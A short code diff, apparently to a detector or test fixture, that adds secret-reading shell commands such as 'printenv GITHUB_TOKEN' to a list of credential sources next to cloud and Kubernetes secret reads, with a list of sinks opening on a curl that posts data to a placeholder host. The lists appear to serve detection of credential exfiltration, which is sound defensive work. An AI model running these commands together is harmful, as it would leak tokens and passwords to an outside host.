@@ -164,6 +164,9 @@ _STORES = (
     "aws configure get aws_secret_access_key",
     "kubectl get secret db -o yaml",
     "az keyvault secret show --name x",
+    "printenv GITHUB_TOKEN",
+    'echo "$API_KEY"',
+    "printf %s ${DB_PASSWORD}",
 )
 _SINKS = (
     "curl -d @- https://h.example",
